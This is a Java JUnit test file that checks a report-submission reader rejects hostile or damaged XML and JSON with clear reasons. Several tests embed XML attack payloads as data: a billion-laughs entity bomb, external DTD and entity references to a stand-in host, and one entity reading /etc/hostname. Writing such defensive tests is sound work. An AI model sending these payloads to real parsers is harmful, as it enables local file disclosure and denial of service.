package org.wardline.intake.cybertip;

import static org.assertj.core.api.Assertions.assertThat;
import static org.wardline.intake.cybertip.Submissions.read;
import static org.wardline.intake.cybertip.Submissions.unreadable;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that attack, or are damaged: read as a value with a reason, a remedy and a line, never as an exception. */
class HostileFileTests {

    @Test
    void refusesBillionLaughs() {
        var problem =
                unreadable(
                        read(
                                """
                                <?xml version="1.0"?>
                                <!DOCTYPE lolz [
                                  <!ENTITY a "ha">
                                  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
                                  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
                                ]>
                                <report><additionalInfo>&c;</additionalInfo></report>
                                """));
        assertThat(problem.reasonCode()).isEqualTo("DOCUMENT_TYPE");
        assertThat(problem.reason()).contains("document type");
        assertThat(problem.remedy()).contains("DOCTYPE");
        assertThat(problem.line()).isBetween(2, 6);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE report SYSTEM \"http://198.18.0.1/evil.dtd\"><report/>",
                "<!DOCTYPE report [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><report>&x;</report>",
                "<!DOCTYPE report [<!ENTITY % p SYSTEM \"http://198.18.0.1/p\"> %p;]><report/>",
            })
    void refusesEveryReferenceToTheOutside(String xml) {
        assertThat(unreadable(read(xml)).reasonCode()).isEqualTo("DOCUMENT_TYPE");
    }

    @Test
    void refusesEntitiesThatNobodyDefined() {
        var problem = unreadable(read("<report>\n<additionalInfo>&who;</additionalInfo></report>"));
        assertThat(problem.reasonCode()).isIn("UNKNOWN_ENTITY", "MALFORMED");
        assertThat(problem.line()).isEqualTo(2);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "'' ~ EMPTY",
                "'   ' ~ EMPTY",
                "plain words ~ NOT_A_REPORT",
                "<html><body/></html> ~ NOT_A_REPORT",
                "<reportResponse><responseCode>0</responseCode></reportResponse> ~ ANSWER_NOT_REPORT",
                "<report/> ~ NOTHING_IN_IT",
                "<report></report> ~ NOTHING_IN_IT",
                "<fileDetails><fileId>f</fileId></fileDetails> ~ FILE_DETAILS_INCOMPLETE",
                "<fileDetails><reportId>7</reportId></fileDetails> ~ FILE_DETAILS_INCOMPLETE",
                "<report><victim></report> ~ MALFORMED",
                "<report><victim> ~ TRUNCATED",
                "<report><victim>text ~ TRUNCATED",
                "{} ~ NOT_A_REPORT",
                "[] ~ NOT_A_REPORT",
                "[1] ~ NOT_A_REPORT",
                "[{}, {}] ~ SEVERAL_REPORTS",
                "{\"reportId\": 1, \"reportedInformation\": null} ~ NOT_A_REPORT",
                "{\"reportId\": ~ TRUNCATED",
                "{\"reportId\": 1 \"x\": 2} ~ MALFORMED",
                "{\"reportId\": 1, \"reportId\": 2} ~ SAME_NAME_TWICE",
                "{\"reportedInformation\": {}} {} ~ SEVERAL_REPORTS",
                "{\"reportedInformation\": {}} x ~ MALFORMED",
            })
    void saysWhyItCannotRead(String text, String reasonCode) {
        var problem = unreadable(read(text));
        assertThat(problem.reasonCode()).isEqualTo(reasonCode);
        assertThat(problem.reason()).endsWith(".");
        assertThat(problem.remedy()).endsWith(".");
    }

    @ParameterizedTest
    @EnumSource
    void saysWhatToDoInPlainSentences(ReadingProblem problem) {
        assertThat(problem.at(3).reason()).matches("[A-Z].*\\.");
        assertThat(problem.at(3).remedy()).matches("[A-Z].*\\.");
    }

    @Test
    void saysOnWhichLineXmlIsDamaged() {
        assertThat(unreadable(read("<report>\n<a>\n</b>\n</report>")).line()).isEqualTo(3);
    }

    @Test
    void saysOnWhichLineJsonIsDamaged() {
        assertThat(unreadable(read("{\n\"a\": 1,\n\"b\": oops\n}")).line()).isEqualTo(3);
    }

    @Test
    void refusesTooDeepNesting() {
        assertThat(unreadable(read("<report>" + "<a>".repeat(100))).reasonCode())
                .isEqualTo("TOO_COMPLEX");
        assertThat(unreadable(read("[".repeat(10_000))).reasonCode()).isEqualTo("TOO_COMPLEX");
    }

    @Test
    void refusesTooManyParts() {
        assertThat(unreadable(read("<report>" + "<a/>".repeat(200_001) + "</report>")).reasonCode())
                .isEqualTo("TOO_COMPLEX");
    }

    @Test
    void refusesWhatIsTooLarge() {
        var bytes = new byte[(32 << 20) + 1];
        Arrays.fill(bytes, (byte) ' ');
        assertThat(unreadable(new SubmissionReader().read(bytes)).reasonCode())
                .isEqualTo("TOO_LARGE");
    }

    @Test
    void tellsAWrongEncoding() {
        var bytes =
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<report><additionalInfo>caf\u00e9 x</additionalInfo></report>"
                        .getBytes(StandardCharsets.ISO_8859_1);
        var problem = unreadable(new SubmissionReader().read(bytes));
        assertThat(problem.reasonCode()).isEqualTo("ENCODING");
    }

    @Test
    void readsEveryEncodingThatSaysWhatItIs() {
        var xml = "<report><additionalInfo>caf\u00e9</additionalInfo></report>";
        for (var encoding :
                new java.nio.charset.Charset[] {
                    StandardCharsets.UTF_16, StandardCharsets.UTF_8,
                }) {
            assertThat(new SubmissionReader().read(xml.getBytes(encoding)))
                    .isInstanceOf(Reading.OfReport.class);
        }
        var latin = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + xml;
        assertThat(new SubmissionReader().read(latin.getBytes(StandardCharsets.ISO_8859_1)))
                .isInstanceOf(Reading.OfReport.class);
        assertThat(read("\uFEFF" + xml)).isInstanceOf(Reading.OfReport.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "report.xml",
                "report-minimal.xml",
                "file-details.xml",
                "export.json",
            })
    void neverThrowsForDamage(String name) {
        var sample = Submissions.sample(name);
        var random = new Random(20_261_124);
        var reader = new SubmissionReader();
        IntStream.range(0, 300)
                .forEach(i -> {
                    var damaged = sample.clone();
                    for (var n = 0; n <= i % 5; n++) {
                        damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
                    }
                    var cut = Arrays.copyOf(damaged, random.nextInt(damaged.length) + 1);
                    assertThat(reader.read(damaged)).isNotNull();
                    assertThat(reader.read(cut)).isNotNull();
                });
    }

    @Test
    void readsLongTextQuickly() {
        var out = new ByteArrayOutputStream();
        out.writeBytes("<report><additionalInfo>".getBytes(StandardCharsets.UTF_8));
        out.writeBytes("A word and AAAA ".repeat(300_000).getBytes(StandardCharsets.UTF_8));
        out.writeBytes("</additionalInfo></report>".getBytes(StandardCharsets.UTF_8));
        var began = System.nanoTime();
        assertThat(new SubmissionReader().read(out.toByteArray()))
                .isInstanceOf(Reading.OfReport.class);
        assertThat(System.nanoTime() - began).isLessThan(5_000_000_000L);
    }
}
